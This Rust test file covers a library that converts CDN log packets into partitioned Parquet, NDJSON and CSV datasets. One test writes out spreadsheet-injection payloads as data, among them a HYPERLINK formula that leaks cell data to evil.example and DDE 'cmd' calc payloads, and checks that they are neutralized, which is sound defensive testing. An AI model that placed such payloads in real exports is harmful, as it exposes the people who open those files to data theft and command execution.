//! Packets into datasets: partitions, the Parquet schema and encodings, NDJSON and CSV, reruns,
//! bad lines, unknown members, and planted links.

use std::fs::{self, File};
use std::io::Write;
use std::path::{Path, PathBuf};

use arrow_array::{Array, Int64Array, RecordBatch, StringArray, TimestampMillisecondArray};
use arrow_schema::{DataType, TimeUnit};
use flate2::write::GzEncoder;
use parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder;
use parquet::basic::{Compression, Encoding};
use serde_json::json;
use teo_logs::destination::CreateError;
use teo_logs::ConvertOptions;
use teo_logs::{ConvertError, Dataset, Format, Kind};
use teo_mock::logs::LogKind;

use crate::support;
use support::{lines_of, temp_dir, write_packets};

/// The mock's packets of two hours (two domains, one proxy), as downloaded.
fn mock_packets(kind: LogKind, dir: &Path) -> Vec<PathBuf> {
    let request = json!({
        "StartTime": "2024-05-01T10:00:00Z",
        "EndTime": "2024-05-01T12:00:00Z",
        "ZoneIds": ["zone-2o3h21ed8bpu"],
        "Domains": ["www.example.com", "img.example.com"],
        "ProxyIds": ["sid-2m5b0s3ch7zq"],
    });
    write_packets(kind, &request, dir)
}

fn gzip_lines(path: &Path, lines: &[String]) {
    let mut gz = GzEncoder::new(File::create(path).unwrap(), flate2::Compression::fast());
    for line in lines {
        writeln!(gz, "{line}").unwrap();
    }
    gz.finish().unwrap();
}

fn read_parquet(path: &Path) -> Vec<RecordBatch> {
    ParquetRecordBatchReaderBuilder::try_new(File::open(path).unwrap())
        .unwrap()
        .build()
        .unwrap()
        .map(|b| b.unwrap())
        .collect()
}

fn files_under(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for entry in fs::read_dir(&d).unwrap() {
            let entry = entry.unwrap();
            let path = entry.path();
            if entry.file_type().unwrap().is_dir() {
                stack.push(path);
            } else {
                out.push(path.strip_prefix(dir).unwrap().to_path_buf());
            }
        }
    }
    out.sort();
    out
}

#[test]
fn l7_packets_become_hive_partitioned_parquet_with_the_documented_schema() {
    let dir = temp_dir("l7-parquet");
    let packets = mock_packets(LogKind::L7, &dir.join("in"));
    assert!(packets.len() >= 4, "{packets:?}");
    let dataset = Dataset::local(dir.join("out"), Format::Parquet).unwrap();
    let mut total = 0;
    for packet in &packets {
        let report = dataset
            .convert_file(packet, ConvertOptions::default().zone("zone-2o3h21ed8bpu"))
            .unwrap();
        let source = lines_of(packet);
        assert_eq!(report.records, source.len() as u64, "{packet:?}");
        assert_eq!(report.bad_lines, 0);
        assert_eq!(report.files.len(), 1, "{:?}", report.files);
        total += report.records;

        let file = &report.files[0];
        let text = file.to_string_lossy();
        assert!(
            text.starts_with("kind=l7/zone=zone-2o3h21ed8bpu/date=2024-05-01/hour=1"),
            "{text}"
        );
        let batches = read_parquet(&dir.join("out").join(file));
        let rows: usize = batches.iter().map(|b| b.num_rows()).sum();
        assert_eq!(rows, source.len());
        let schema = batches[0].schema();
        assert_eq!(
            schema.field_with_name("RequestTime").unwrap().data_type(),
            &DataType::Timestamp(TimeUnit::Millisecond, Some("UTC".into()))
        );
        for int in [
            "EdgeResponseStatusCode",
            "EdgeResponseBytes",
            "EdgeResponseTime",
        ] {
            assert_eq!(
                schema.field_with_name(int).unwrap().data_type(),
                &DataType::Int64
            );
        }
        let file_schema = ParquetRecordBatchReaderBuilder::try_new(
            File::open(dir.join("out").join(file)).unwrap(),
        )
        .unwrap()
        .schema()
        .clone();
        assert_eq!(
            file_schema.metadata().get("teo.kind").map(String::as_str),
            Some("l7"),
            "{:?}",
            file_schema.metadata()
        );

        // Values as sent: the first row against the first line.
        let batch = &batches[0];
        let column = |name: &str| batch.column(schema.index_of(name).unwrap()).clone();
        let status = column("EdgeResponseStatusCode");
        let status = status.as_any().downcast_ref::<Int64Array>().unwrap();
        assert_eq!(
            Some(status.value(0)),
            source[0]["EdgeResponseStatusCode"].as_i64()
        );
        let host = column("RequestHost");
        let host = host.as_any().downcast_ref::<StringArray>().unwrap();
        assert_eq!(Some(host.value(0)), source[0]["RequestHost"].as_str());
        let time = column("RequestTime");
        let time = time
            .as_any()
            .downcast_ref::<TimestampMillisecondArray>()
            .unwrap();
        let sent = time::OffsetDateTime::parse(
            source[0]["RequestTime"].as_str().unwrap(),
            &time::format_description::well_known::Rfc3339,
        )
        .unwrap();
        assert_eq!(
            i128::from(time.value(0)),
            sent.unix_timestamp_nanos() / 1_000_000
        );

        // zstd everywhere; dictionary pages on low-cardinality text, not on ids.
        let reader = parquet::file::reader::SerializedFileReader::new(
            File::open(dir.join("out").join(file)).unwrap(),
        )
        .unwrap();
        use parquet::file::reader::FileReader as _;
        let meta = reader.metadata();
        let group = meta.row_group(0);
        for c in group.columns() {
            assert!(matches!(c.compression(), Compression::ZSTD(_)), "{c:?}");
            let name = c.column_path().string();
            let dictionary = c
                .encodings()
                .any(|e| e == Encoding::RLE_DICTIONARY || e == Encoding::PLAIN_DICTIONARY);
            match name.as_str() {
                "RequestMethod" | "EdgeCacheStatus" | "RequestHost" | "ClientRegion" => {
                    assert!(dictionary, "{name} not dictionary-encoded")
                }
                "RequestID" | "ClientIP" => assert!(!dictionary, "{name} dictionary-encoded"),
                _ => {}
            }
        }
    }
    assert!(total > 100);
    // Markers say which packets are done; a rerun reads nothing and writes nothing.
    let before = files_under(&dir.join("out"));
    assert!(before.iter().any(|p| p.starts_with("_teo_converted")));
    for packet in &packets {
        let report = dataset
            .convert_file(packet, ConvertOptions::default().zone("zone-2o3h21ed8bpu"))
            .unwrap();
        assert!(report.skipped);
    }
    assert_eq!(files_under(&dir.join("out")), before);
    // No temporary file is left.
    assert!(!before.iter().any(|p| p.to_string_lossy().contains(".part")));
    fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn ndjson_and_csv_keep_wire_names_leave_sentinels_out_and_keep_unknown_members() {
    let dir = temp_dir("text");
    let input = dir.join("20240501-10-example.com_overseas.log.gz");
    let lines = vec![
        r#"{"RequestID":"a1","RequestTime":"2024-05-01T10:00:01.5Z","RequestHost":"example.com","RemotePort":"51234","EdgeResponseStatusCode":200,"EdgeResponseBytes":"1024","ClientState":"-","EdgeInternalTime":-1,"NewField":{"x":[1,2]}}"#.to_owned(),
        "not json".to_owned(),
        r#"{"RequestID":"a2","RequestTime":"2024-05-01T10:59:59Z","RequestHost":"example.com","RemotePort":"-","EdgeResponseStatusCode":404,"EdgeResponseBytes":5,"RequestUA":"say \"hi\", ok"}"#.to_owned(),
    ];
    gzip_lines(&input, &lines);

    let ndjson = Dataset::local(dir.join("nd"), Format::Ndjson).unwrap();
    let report = ndjson
        .convert_file(&input, ConvertOptions::default().kind(Kind::L7))
        .unwrap();
    assert_eq!((report.records, report.bad_lines), (2, 1));
    assert!(
        report.bad[0].contains(":2: not a JSON object"),
        "{:?}",
        report.bad
    );
    assert_eq!(
        report.files,
        [PathBuf::from(
            "kind=l7/zone=__HIVE_DEFAULT_PARTITION__/date=2024-05-01/hour=10/20240501-10-example.com_overseas.ndjson"
        )]
    );
    let rows = lines_of(&dir.join("nd").join(&report.files[0]));
    assert_eq!(
        rows[0],
        json!({"RequestID":"a1","RequestTime":"2024-05-01T10:00:01.5Z","RequestHost":"example.com",
               "RemotePort":51234,"EdgeResponseStatusCode":200,"EdgeResponseBytes":1024,
               "NewField":{"x":[1,2]}})
    );
    assert_eq!(rows[1]["RequestUA"], "say \"hi\", ok");
    assert!(rows[1].get("RemotePort").is_none());

    let csv = Dataset::local(dir.join("csv"), Format::Csv).unwrap();
    let report = csv
        .convert_file(&input, ConvertOptions::default().zone("zone a/b"))
        .unwrap();
    let file = &report.files[0];
    assert!(
        file.starts_with("kind=l7/zone=zone%20a%2Fb/date=2024-05-01/hour=10"),
        "{file:?}"
    );
    let mut reader = csv::Reader::from_path(dir.join("csv").join(file)).unwrap();
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(header[0], "RequestID");
    assert_eq!(header.last().unwrap(), "extra");
    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(records.len(), 2);
    let at = |name: &str| header.iter().position(|h| h == name).unwrap();
    assert_eq!(&records[0][at("RemotePort")], "51234");
    assert_eq!(&records[0][at("ClientState")], "");
    assert_eq!(&records[0][at("extra")], r#"{"NewField":{"x":[1,2]}}"#);
    assert_eq!(&records[1][at("RequestUA")], "say \"hi\", ok");

    // Parquet keeps the unknown member in `extra`.
    let parquet = Dataset::local(dir.join("pq"), Format::Parquet).unwrap();
    let report = parquet
        .convert_file(&input, ConvertOptions::default())
        .unwrap();
    let batches = read_parquet(&dir.join("pq").join(&report.files[0]));
    let extra = batches[0]
        .column(batches[0].schema().index_of("extra").unwrap())
        .clone();
    let extra = extra.as_any().downcast_ref::<StringArray>().unwrap();
    assert_eq!(extra.value(0), r#"{"NewField":{"x":[1,2]}}"#);
    assert!(extra.is_null(1));
    fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn records_spread_over_many_hours_go_to_their_partitions_and_none_is_lost() {
    let dir = temp_dir("spread");
    let input = dir.join("l4-packet.log");
    // Six hours interleaved, more than the files kept open at once, plus a record without a time.
    let mut lines = Vec::new();
    for i in 0..60 {
        let hour = (i * 7) % 6;
        lines.push(format!(
            r#"{{"ServiceID":"sid-1","SessionID":"s{i}","LogTimeStamp":"2024-05-01T{hour:02}:10:00Z","SentBytes":{i},"ReceivedBytes":1,"DisconnetReason":"-"}}"#
        ));
    }
    lines.push(r#"{"ServiceID":"sid-1","SentBytes":1000}"#.to_owned());
    fs::write(&input, lines.join("\n")).unwrap();
    let dataset = Dataset::local(dir.join("out"), Format::Parquet).unwrap();
    let report = dataset
        .convert_file(&input, ConvertOptions::default().zone("z"))
        .unwrap();
    assert_eq!(report.records, 61);
    let mut rows = 0;
    let mut sent = 0;
    for file in &report.files {
        for batch in read_parquet(&dir.join("out").join(file)) {
            rows += batch.num_rows();
            let column = batch
                .column(batch.schema().index_of("SentBytes").unwrap())
                .clone();
            sent += column
                .as_any()
                .downcast_ref::<Int64Array>()
                .unwrap()
                .iter()
                .flatten()
                .sum::<i64>();
        }
    }
    assert_eq!(rows, 61);
    assert_eq!(sent, (0..60).sum::<i64>() + 1000);
    let names: Vec<String> = report
        .files
        .iter()
        .map(|f| f.to_string_lossy().into_owned())
        .collect();
    for hour in 0..6 {
        assert!(
            names
                .iter()
                .any(|n| n.contains(&format!("date=2024-05-01/hour={hour:02}/l4-packet"))),
            "{names:?}"
        );
    }
    // Files were closed and reopened: the later ones are numbered (`~`: no stem has it).
    assert!(
        names.iter().any(|n| n.ends_with("l4-packet~1.parquet")),
        "{names:?}"
    );
    assert!(names
        .iter()
        .any(|n| n.contains("date=__HIVE_DEFAULT_PARTITION__/hour=__HIVE_DEFAULT_PARTITION__")));
    fs::remove_dir_all(&dir).unwrap();
}

#[cfg(unix)]
#[test]
fn a_planted_link_is_never_written_through() {
    let dir = temp_dir("links");
    let input = dir.join("p.log");
    fs::write(
        &input,
        r#"{"RequestTime":"2024-05-01T10:00:00Z","RequestHost":"h","EdgeResponseStatusCode":200}"#,
    )
    .unwrap();
    let elsewhere = dir.join("elsewhere");
    fs::create_dir_all(&elsewhere).unwrap();
    let out = dir.join("out");
    fs::create_dir_all(out.join("kind=l7")).unwrap();
    std::os::unix::fs::symlink(&elsewhere, out.join("kind=l7/zone=z")).unwrap();
    let dataset = Dataset::local(&out, Format::Ndjson).unwrap();
    let error = dataset
        .convert_file(&input, ConvertOptions::default().zone("z"))
        .unwrap_err();
    assert!(
        matches!(error, ConvertError::Create(CreateError::Symlink { .. })),
        "{error}"
    );
    assert!(error.to_string().contains("kind=l7/zone=z"), "{error}");
    assert_eq!(fs::read_dir(&elsewhere).unwrap().count(), 0);
    // A link at a file's own name is replaced, not written through.
    fs::remove_file(out.join("kind=l7/zone=z")).unwrap();
    let target = dir.join("target.txt");
    fs::write(&target, "keep").unwrap();
    let file = out.join("kind=l7/zone=z/date=2024-05-01/hour=10");
    fs::create_dir_all(&file).unwrap();
    std::os::unix::fs::symlink(&target, file.join("p.ndjson")).unwrap();
    dataset
        .convert_file(&input, ConvertOptions::default().zone("z"))
        .unwrap();
    assert_eq!(fs::read_to_string(&target).unwrap(), "keep");
    assert!(!fs::symlink_metadata(file.join("p.ndjson"))
        .unwrap()
        .file_type()
        .is_symlink());
    fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn a_packet_of_neither_kind_is_named_in_the_error() {
    let dir = temp_dir("kind");
    let input = dir.join("odd.log");
    fs::write(&input, "{\"a\":1}\n{\"b\":2}\n").unwrap();
    let dataset = Dataset::local(dir.join("out"), Format::Parquet).unwrap();
    let error = dataset
        .convert_file(&input, ConvertOptions::default())
        .unwrap_err();
    assert!(matches!(error, ConvertError::UnknownKind { .. }));
    assert!(error.to_string().contains("odd.log"), "{error}");
    fs::remove_dir_all(&dir).unwrap();
}

/// One L7 record of `hour` whose `RequestID` says where it came from.
fn record(id: &str, hour: u32) -> String {
    format!(
        r#"{{"RequestID":"{id}","RequestTime":"2024-05-01T{hour:02}:00:00Z","RequestHost":"h","EdgeResponseStatusCode":200}}"#
    )
}

/// Visible (not hidden) files under `dir`, relative.
fn visible_files(dir: &Path) -> Vec<PathBuf> {
    if !dir.exists() {
        return Vec::new();
    }
    files_under(dir)
        .into_iter()
        .filter(|f| {
            !f.components()
                .any(|c| c.as_os_str().to_string_lossy().starts_with('.'))
        })
        .collect()
}

/// Every NDJSON line under `dir/kind=l7`, as (file, RequestID).
fn ndjson_ids(dir: &Path) -> Vec<String> {
    let mut ids = Vec::new();
    for file in visible_files(dir) {
        if file.starts_with("kind=l7") && file.extension().is_some_and(|e| e == "ndjson") {
            for line in fs::read_to_string(dir.join(&file)).unwrap().lines() {
                let value: serde_json::Value = serde_json::from_str(line).unwrap();
                ids.push(value["RequestID"].as_str().unwrap().to_owned());
            }
        }
    }
    ids.sort();
    ids
}

#[test]
fn packets_whose_names_read_the_same_each_keep_their_records() {
    // Issue: `a/pkt one.log.gz`, `b/pkt_one.log.gz`, `b/pkt_one.log` were reported as
    // "converted 2, skipped 1, records 2" while the dataset held one record.
    let dir = temp_dir("collide");
    fs::create_dir_all(dir.join("a")).unwrap();
    fs::create_dir_all(dir.join("b")).unwrap();
    let inputs = vec![
        dir.join("a/pkt one.log.gz"),
        dir.join("b/pkt_one.log.gz"),
        dir.join("b/pkt_one.log"),
    ];
    gzip_lines(&inputs[0], &[record("from-a-space", 10)]);
    gzip_lines(&inputs[1], &[record("from-b-gz", 10)]);
    fs::write(&inputs[2], record("from-b-log", 10)).unwrap();
    let out = dir.join("out");
    let dataset = Dataset::local(&out, Format::Ndjson).unwrap();
    let results = dataset.convert_files(&inputs, ConvertOptions::default().zone("z"));
    let reports: Vec<_> = results.into_iter().map(|r| r.unwrap()).collect();
    assert!(reports.iter().all(|r| !r.skipped), "{reports:?}");
    assert_eq!(reports.iter().map(|r| r.records).sum::<u64>(), 3);
    assert_eq!(
        ndjson_ids(&out),
        ["from-a-space", "from-b-gz", "from-b-log"]
    );
    // Three names, the first plain, the others with a hash of their content; three markers
    // that say which packet each is.
    let mut names: Vec<String> = reports
        .iter()
        .flat_map(|r| &r.files)
        .map(|f| f.file_name().unwrap().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(names[0], "pkt_one.ndjson", "{names:?}");
    assert!(
        names[1..].iter().all(
            |n| n.starts_with("pkt_one~") && n.len() == "pkt_one~".len() + 12 + ".ndjson".len()
        ),
        "{names:?}"
    );
    let markers = visible_files(&out.join("_teo_converted"));
    assert_eq!(markers.len(), 3, "{markers:?}");
    for marker in &markers {
        let text = fs::read_to_string(out.join("_teo_converted").join(marker)).unwrap();
        let value: serde_json::Value = serde_json::from_str(&text).unwrap();
        assert_eq!(
            value["input"]["sha256"].as_str().unwrap().len(),
            64,
            "{text}"
        );
    }

    // A rerun, in another order, skips all three; a copy of one elsewhere is the same packet.
    fs::create_dir_all(dir.join("c")).unwrap();
    fs::copy(&inputs[1], dir.join("c/pkt_one.log.gz")).unwrap();
    let again: Vec<PathBuf> = inputs
        .iter()
        .rev()
        .cloned()
        .chain([dir.join("c/pkt_one.log.gz")])
        .collect();
    for result in dataset.convert_files(&again, ConvertOptions::default().zone("z")) {
        assert!(result.unwrap().skipped);
    }
    assert_eq!(ndjson_ids(&out).len(), 3);

    // Another packet with that name, converted later on its own, is converted too.
    let later = dir.join("d/pkt-one.log");
    fs::create_dir_all(dir.join("d")).unwrap();
    fs::write(&later, record("later", 10)).unwrap();
    fs::rename(&later, dir.join("d/pkt_one.log")).unwrap();
    let report = dataset
        .convert_file(
            dir.join("d/pkt_one.log"),
            ConvertOptions::default().zone("z"),
        )
        .unwrap();
    assert!(!report.skipped && report.records == 1);
    assert_eq!(ndjson_ids(&out).len(), 4);
    fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn a_packet_that_fails_late_leaves_none_of_its_files_visible() {
    // Issue: a packet over several hours that failed on a late bad line (--strict) left its
    // first hours' files under their final names, without a marker.
    let dir = temp_dir("late-failure");
    let input = dir.join("spread.log");
    let mut lines: Vec<String> = (0..40).map(|i| record(&format!("r{i}"), i % 6)).collect();
    lines.push("{not json".to_owned());
    fs::write(&input, lines.join("\n")).unwrap();
    let out = dir.join("out");
    for format in [Format::Parquet, Format::Ndjson, Format::Csv] {
        let dataset = Dataset::local(&out, format)
            .unwrap()
            .bad_lines(teo_logs::records::BadLines::Fail);
        let error = dataset
            .convert_file(&input, ConvertOptions::default().zone("z"))
            .unwrap_err();
        assert!(error.to_string().contains("spread.log"), "{error}");
        assert_eq!(visible_files(&out), Vec::<PathBuf>::new(), "{format:?}");
        // Nor anything hidden left behind.
        assert_eq!(files_under(&out), Vec::<PathBuf>::new(), "{format:?}");
    }
    // Converted whole, every file appears, with its marker.
    let dataset = Dataset::local(&out, Format::Ndjson).unwrap();
    let report = dataset
        .convert_file(&input, ConvertOptions::default().zone("z"))
        .unwrap();
    assert_eq!(report.records, 40);
    // Six hours in turn, four files open at a time: files are closed and reopened.
    assert!(report.files.len() > 6, "{:?}", report.files);
    assert_eq!(visible_files(&out).len(), report.files.len() + 1);
    fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn csv_cells_a_spreadsheet_would_run_are_neutralized_unless_raw() {
    let dir = temp_dir("csv-injection");
    let input = dir.join("visitors.log");
    let hostile = [
        (
            "RequestUA",
            r#"=HYPERLINK("https://evil.example/?x="&B2,"details")"#,
        ),
        ("RequestUrl", "=cmd|' /C calc'!A0"),
        ("RequestReferer", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("ClientISP", "+1+1"),
        ("ClientRegion", "-2+3"),
        ("ClientState", "\tx"),
        ("RequestRange", "\rx"),
    ];
    let mut member = serde_json::Map::new();
    member.insert("RequestTime".into(), json!("2024-05-01T10:00:00Z"));
    member.insert("EdgeResponseStatusCode".into(), json!(200));
    member.insert("EdgeResponseBytes".into(), json!(-5));
    for (name, value) in hostile {
        member.insert(name.into(), json!(value));
    }
    member.insert("RequestHost".into(), json!("www.example.com"));
    fs::write(&input, serde_json::Value::Object(member).to_string()).unwrap();

    let read_csv = |out: &Path| -> Vec<(String, String)> {
        let file = visible_files(out)
            .into_iter()
            .find(|f| f.extension().is_some_and(|e| e == "csv"))
            .unwrap();
        let mut reader = csv::Reader::from_path(out.join(file)).unwrap();
        let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
        let row = reader.records().next().unwrap().unwrap();
        header
            .into_iter()
            .zip(row.iter().map(String::from))
            .collect()
    };
    let cell = |row: &[(String, String)], name: &str| {
        row.iter().find(|(n, _)| n == name).unwrap().1.clone()
    };

    let safe = dir.join("safe");
    Dataset::local(&safe, Format::Csv)
        .unwrap()
        .convert_file(&input, ConvertOptions::default().zone("z"))
        .unwrap();
    let row = read_csv(&safe);
    for (name, value) in hostile {
        assert_eq!(cell(&row, name), format!("'{value}"), "{name}");
    }
    // Numbers and ordinary text are written as they are.
    assert_eq!(cell(&row, "RequestHost"), "www.example.com");
    assert_eq!(cell(&row, "EdgeResponseStatusCode"), "200");

    let raw = dir.join("raw");
    Dataset::local(&raw, Format::Csv)
        .unwrap()
        .csv_cells(teo_logs::encode::CsvCells::Raw)
        .convert_file(&input, ConvertOptions::default().zone("z"))
        .unwrap();
    let row = read_csv(&raw);
    for (name, value) in hostile {
        assert_eq!(cell(&row, name), value, "{name}");
    }
    // NDJSON keeps every value exact.
    let ndjson = dir.join("ndjson");
    Dataset::local(&ndjson, Format::Ndjson)
        .unwrap()
        .convert_file(&input, ConvertOptions::default().zone("z"))
        .unwrap();
    let file = visible_files(&ndjson)
        .into_iter()
        .find(|f| f.extension().is_some_and(|e| e == "ndjson"))
        .unwrap();
    let line: serde_json::Value =
        serde_json::from_str(fs::read_to_string(ndjson.join(file)).unwrap().trim()).unwrap();
    for (name, value) in hostile {
        assert_eq!(line[name], value, "{name}");
    }
    fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn a_long_zone_is_cut_to_a_usable_path_segment_and_kept_apart() {
    // Issue: a long non-ASCII --zone failed with "File name too long".
    let dir = temp_dir("long-zone");
    let input = dir.join("p.log");
    fs::write(&input, record("r", 10)).unwrap();
    let dataset = Dataset::local(dir.join("out"), Format::Parquet).unwrap();
    let long_a = "区".repeat(100);
    let long_b = format!("{}x", "区".repeat(99));
    let a = dataset
        .convert_file(&input, ConvertOptions::default().zone(&long_a))
        .unwrap();
    let b = dataset
        .convert_file(&input, ConvertOptions::default().zone(&long_b))
        .unwrap();
    let zone_of = |report: &teo_logs::ConvertReport| {
        report.files[0]
            .components()
            .nth(1)
            .unwrap()
            .as_os_str()
            .to_string_lossy()
            .into_owned()
    };
    let (zone_a, zone_b) = (zone_of(&a), zone_of(&b));
    assert!(zone_a.len() <= "zone=".len() + 200, "{zone_a}");
    assert!(zone_a.starts_with("zone=%E5%8C%BA"), "{zone_a}");
    assert!(zone_a.contains('~'), "{zone_a}");
    assert_ne!(zone_a, zone_b);
    // A short zone is escaped, not cut.
    assert_eq!(teo_logs::dataset::hive_value(Some("区")), "%E5%8C%BA");
    fs::remove_dir_all(&dir).unwrap();
}

#[cfg(unix)]
#[test]
fn what_a_dataset_holds_is_private() {
    use std::os::unix::fs::PermissionsExt;
    let dir = temp_dir("private");
    let input = dir.join("p.log");
    fs::write(&input, record("r", 10)).unwrap();
    let out = dir.join("out");
    let report = Dataset::local(&out, Format::Parquet)
        .unwrap()
        .convert_file(&input, ConvertOptions::default().zone("z"))
        .unwrap();
    let mode = |p: &Path| fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&out), 0o700);
    let file = out.join(&report.files[0]);
    assert_eq!(mode(&file), 0o600);
    for dir in file.ancestors().skip(1).take(4) {
        assert_eq!(mode(dir), 0o700, "{}", dir.display());
    }
    fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn packets_whose_names_read_the_same_converted_at_once_from_clones_keep_their_records() {
    // A download stores packets on several threads, each with a clone of the dataset: packets
    // whose names read the same (`a`, `a.json`, `a.jsonl`, …: the same stem) must still each
    // take their own name, and a packet not converted yet is not taken for the one that was.
    let dir = temp_dir("collide-threads");
    let names = [
        "a.log",
        "a.json.log",
        "a.jsonl.log",
        "a.ndjson.log",
        "a.log.gz",
    ];
    let inputs: Vec<PathBuf> = names
        .iter()
        .enumerate()
        .map(|(i, name)| {
            let path = dir.join(name);
            fs::write(&path, record(&format!("r{i}"), 10)).unwrap();
            path
        })
        .collect();
    let out = dir.join("out");
    let dataset = Dataset::local(&out, Format::Ndjson).unwrap();
    let barrier = std::sync::Barrier::new(inputs.len());
    std::thread::scope(|scope| {
        for input in &inputs {
            let (dataset, barrier) = (dataset.clone(), &barrier);
            scope.spawn(move || {
                barrier.wait();
                let report = dataset
                    .convert_file(input, ConvertOptions::default().zone("z"))
                    .unwrap();
                assert!(!report.skipped && report.records == 1, "{report:?}");
            });
        }
    });
    assert_eq!(ndjson_ids(&out), ["r0", "r1", "r2", "r3", "r4"]);
    // Before a download: the plain marker records one of them; another name is not held.
    let held: Vec<&str> = names
        .iter()
        .copied()
        .filter(|name| dataset.holds_packet(Kind::L7, Some("z"), name))
        .collect();
    assert_eq!(held.len(), 1, "{held:?}");
    assert!(!dataset.holds_packet(Kind::L7, Some("z"), "a.json.gz"));
    fs::remove_dir_all(&dir).unwrap();
}

#[cfg(unix)]
#[test]
fn a_marker_that_is_a_link_or_a_fifo_is_no_marker() {
    let dir = temp_dir("odd-markers");
    let input = dir.join("p.log");
    fs::write(&input, record("r", 10)).unwrap();
    let out = dir.join("out");
    let dataset = Dataset::local(&out, Format::Ndjson).unwrap();
    let markers = out.join("_teo_converted/kind=l7/zone=z");
    fs::create_dir_all(&markers).unwrap();
    // A FIFO would block a plain open for ever; a link would be followed.
    let made = std::process::Command::new("mkfifo")
        .arg(markers.join("p.ndjson.done"))
        .status()
        .unwrap();
    assert!(made.success());
    let report = dataset
        .convert_file(&input, ConvertOptions::default().zone("z"))
        .unwrap();
    assert!(!report.skipped && report.records == 1);
    fs::remove_dir_all(&out).unwrap();
    let dataset = Dataset::local(&out, Format::Ndjson).unwrap();
    fs::create_dir_all(&markers).unwrap();
    std::os::unix::fs::symlink(&input, markers.join("p.ndjson.done")).unwrap();
    let report = dataset
        .convert_file(&input, ConvertOptions::default().zone("z"))
        .unwrap();
    assert!(!report.skipped && report.records == 1);
    assert!(!fs::symlink_metadata(markers.join("p.ndjson.done"))
        .unwrap()
        .file_type()
        .is_symlink());
    fs::remove_dir_all(&dir).unwrap();
}
